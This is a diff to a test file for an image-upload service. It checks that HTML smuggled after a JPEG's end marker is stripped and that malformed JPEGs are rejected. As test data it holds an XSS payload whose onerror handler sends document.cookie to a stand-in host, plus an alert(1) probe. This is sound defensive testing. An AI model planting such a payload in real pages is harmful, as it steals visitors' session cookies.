@@ -203,16 +203,32 @@ describe('photos: only what the README lists, judged on what decodes', () => {
 
   it('a page after a JPEG end marker never reaches storage: the photo is kept, cut at its end', async () => {
     const { creator, colabId } = await creatorWithCollaboration();
-    const jpeg = await picture().jpeg().toBuffer();
     const page = Buffer.from('<!doctype html><meta charset=utf-8><img src=x onerror="location=\'https://malo.example/\'+document.cookie">');
-    const res = await upload(creator, colabId, Buffer.concat([jpeg, page]), 'foto.jpg', 'image/jpeg');
-    expect(res.status).toBe(201);
-    const { entrega } = await json<{ entrega: { id: string } }>(res);
-    const [row] = await ctx.db.select().from(entregas).where(eq(entregas.id, entrega.id));
-    const stored = await readAll((await ctx.storage.get('entregas', row!.fileKey!))!.body);
-    expect(stored.equals(jpeg)).toBe(true);
-    expect(stored.includes(Buffer.from('onerror'))).toBe(false);
-    expect(row!.sizeBytes).toBe(jpeg.length);
+    // Baseline, progressive (several scans, tables between them) and mozjpeg's progressive scans.
+    for (const options of [{}, { progressive: true }, { mozjpeg: true }] as const) {
+      const jpeg = await picture().jpeg(options).toBuffer();
+      const res = await upload(creator, colabId, Buffer.concat([jpeg, page]), 'foto.jpg', 'image/jpeg');
+      expect(res.status).toBe(201);
+      const { entrega } = await json<{ entrega: { id: string } }>(res);
+      const [row] = await ctx.db.select().from(entregas).where(eq(entregas.id, entrega.id));
+      const stored = await readAll((await ctx.storage.get('entregas', row!.fileKey!))!.body);
+      expect(stored.equals(jpeg)).toBe(true);
+      expect(stored.includes(Buffer.from('onerror'))).toBe(false);
+      expect(row!.sizeBytes).toBe(jpeg.length);
+    }
+  });
+
+  it('a JPEG that cannot be walked to its end marker is refused, so nothing after it can hide', async () => {
+    const { creator, colabId } = await creatorWithCollaboration();
+    const jpeg = await picture().jpeg().toBuffer();
+    const page = Buffer.from('<!doctype html><img src=x onerror=alert(1)>');
+    // A stray byte between two segments; and a picture with no end marker at all.
+    const stray = Buffer.concat([jpeg.subarray(0, 2), Buffer.from('X'), jpeg.subarray(2), page]);
+    const endless = Buffer.concat([jpeg.subarray(0, jpeg.length - 2), page]);
+    for (const bytes of [stray, endless]) {
+      await expectOurError(await upload(creator, colabId, bytes, 'foto.jpg', 'image/jpeg'), 400, 'INVALID_IMAGE');
+    }
+    expect(storedFilesOf(colabId)).toEqual([]);
   });
 
   it('a phone trailer after the picture (a motion photo clip) goes too; the picture stays as it came', async () => {
